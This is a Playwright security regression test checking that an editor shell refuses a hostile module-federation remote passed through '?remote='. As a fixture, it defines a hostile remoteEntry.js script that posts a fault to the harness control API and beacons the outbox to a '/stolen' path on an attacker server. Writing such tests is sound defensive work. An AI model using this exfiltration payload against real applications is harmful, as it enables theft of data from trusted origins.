/**
 * docs/security.md, "Servers of the harness and the backend functions", at the attacker's level: a program on this
 * machine serves a hostile remote on another loopback port, and a link opens the editor shell with `?remote=` pointing
 * at it. Had the shell loaded it, its code would run in the shell's document with the harness's origin, which the
 * control API trusts: it posts a fault and reads the outbox. In a real Chromium, the shell refuses it on screen, never
 * requests it, keeps its script policy, and no fault appears.
 */
import type { APIRequestContext } from '@playwright/test';
import { type AttackerServer, startAttackerServer } from '../support/attacker-server.ts';
import { HARNESS, SITE } from '../support/harness.ts';
import { expect, test } from '../support/test.ts';

/** The fault the hostile remote posts: a path nothing uses, so that it harms no other test had it got through. */
const MARK = '/hostile-remote-was-here';

const HOSTILE_ENTRY = `
fetch('/__harness/faults', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ path: '${MARK}', status: 418, times: 1 }),
});
fetch('/__harness/outbox').then((answer) => answer.text()).then((outbox) => {
  navigator.sendBeacon(new URL('/stolen', document.currentScript ? document.currentScript.src : location.href), outbox);
});
`;

async function hostileFaults(request: APIRequestContext): Promise<unknown[]> {
  const answer = await request.get(`${HARNESS}/__harness/faults`);
  const faults = (await answer.json()) as { path?: string }[];
  return faults.filter((fault) => fault.path === MARK);
}

test.describe('the editor shell and a remote on another local port', () => {
  test.use({ viewport: { width: 1440, height: 900 } });
  let attacker: AttackerServer;
  let entry: string;

  test.beforeAll(async () => {
    attacker = await startAttackerServer({
      '/remoteEntry.js': { type: 'text/javascript', body: HOSTILE_ENTRY },
      '/mf-manifest.json': { type: 'application/json', body: '{}' },
    });
    // The way the finding was reported: the same loopback name as the harness, another port.
    entry = `http://localhost:${new URL(attacker.origin).port}/remoteEntry.js`;
  });
  test.afterAll(() => attacker.close());

  test('is refused on screen, never fetched or run, and the page keeps its script policy', async ({
    page,
    request,
  }) => {
    const shell = await page.goto(`${HARNESS}/?remote=${encodeURIComponent(entry)}`);
    const csp = shell?.headers()['content-security-policy'] ?? '';
    expect(csp).toContain(`script-src 'self' ${SITE}`);
    expect(csp).not.toContain(new URL(attacker.origin).port);

    const refusal = page.getByTestId('remote-refusal');
    await expect(refusal).toContainText(`?remote= refused: ${entry} was not loaded`);
    await expect(refusal).toHaveAttribute('role', 'alert');

    // "Federated", as the report did: the site's own remote is what loads.
    const siteManifest = page.waitForRequest(`${SITE}/mf-manifest.json`);
    await page.getByRole('button', { name: 'Federated' }).click();
    await siteManifest;
    await expect(page.getByTestId('federated-root').locator('header').first()).toBeVisible();

    expect(attacker.requested).toEqual([]);
    expect(await hostileFaults(request)).toEqual([]);
  });
});
